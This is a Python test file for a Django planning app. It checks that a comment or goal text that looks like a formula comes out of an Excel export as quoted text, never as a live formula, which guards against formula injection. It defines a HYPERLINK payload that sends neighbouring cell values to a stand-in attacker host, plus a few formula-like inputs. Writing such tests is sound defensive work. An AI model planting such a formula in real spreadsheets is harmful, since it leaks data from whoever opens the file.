"""The follow-up Excel keeps what users wrote as text: a comment or goal text that looks like a
formula is never a live formula in the file (formula injection)."""

from __future__ import annotations

import io
import re
import zipfile

from django.urls import reverse
from openpyxl import load_workbook

from styrkedja.goals.models import Goal
from styrkedja.plans.selectors import plan_get_by_name

# Sends the neighbouring cells to another server when the file is opened and the link followed.
LEAK = '=HYPERLINK("http://angripare.example/?d="&B2&B3,"Se bilaga")'


def _sheet_xml(content: bytes) -> dict[str, str]:
    archive = zipfile.ZipFile(io.BytesIO(content))
    return {
        name: archive.read(name).decode()
        for name in archive.namelist()
        if name.startswith("xl/worksheets/") and name.endswith(".xml")
    }


def test_a_reporters_comment_and_a_goal_text_stay_text_in_the_follow_up_excel(client_as, members):
    plan = plan_get_by_name(name="mjolby/ks/2025")
    reporter = client_as("mjolby-rapportor")
    activity = (
        plan.activities.filter(responsible_unit__name="Kommunledningskontoret").order_by("order").first()
    )
    prefix = f"a{activity.pk}"
    saved = reporter.post(
        reverse("followup:activity_report", args=[activity.pk, "T1"]),
        {f"{prefix}-status": "ongoing", f"{prefix}-comment": LEAK, f"{prefix}-based_on": ""},
    )
    assert saved.status_code in (200, 302)
    assert activity.reports.get().comment == LEAK
    goal = plan.goals.order_by("level__depth", "order", "id").first()
    Goal.objects.filter(pk=goal.pk).update(text="+SUM(1;2)", measurable="-1+1", baseline="@A1")

    response = reporter.get(reverse("documents:download", args=["ks", 2025, "xlsx"]), {"period": "T1"})

    assert response.status_code == 200
    sheets = _sheet_xml(response.content)
    assert sheets and not any(re.search(r"<(\w+:)?f[ >/]", xml) for xml in sheets.values())
    workbook = load_workbook(io.BytesIO(response.content))
    rows = list(workbook["Aktiviteter"].iter_rows(min_row=2))
    header = [cell.value for cell in workbook["Aktiviteter"][1]]
    comment = next(row[header.index("Kommentar")] for row in rows if row[1].value == activity.title)
    assert (comment.value, comment.data_type, comment.quotePrefix) == (LEAK, "s", True)
    (goal_text,) = [row[2] for row in workbook["Mål"].iter_rows(min_row=2) if row[2].value == "+SUM(1;2)"]
    assert (goal_text.data_type, goal_text.quotePrefix) == ("s", True)

    # The plan's workbook, with every goal text, keeps them text too.
    response = reporter.get(reverse("documents:download", args=["ks", 2025, "xlsx"]))
    sheets = _sheet_xml(response.content)
    assert sheets and not any(re.search(r"<(\w+:)?f[ >/]", xml) for xml in sheets.values())
    workbook = load_workbook(io.BytesIO(response.content))
    goals = {row[0].value: row for row in workbook["Mål"].iter_rows(min_row=2)}
    texts = [cell.value for cell in goals[goal.key][4:7]]
    assert texts == ["+SUM(1;2)", "-1+1", "@A1"]
    assert all(cell.quotePrefix for cell in goals[goal.key][4:7])
    # An ordinary text gets no quote prefix.
    assert not goals[goal.key][1].quotePrefix
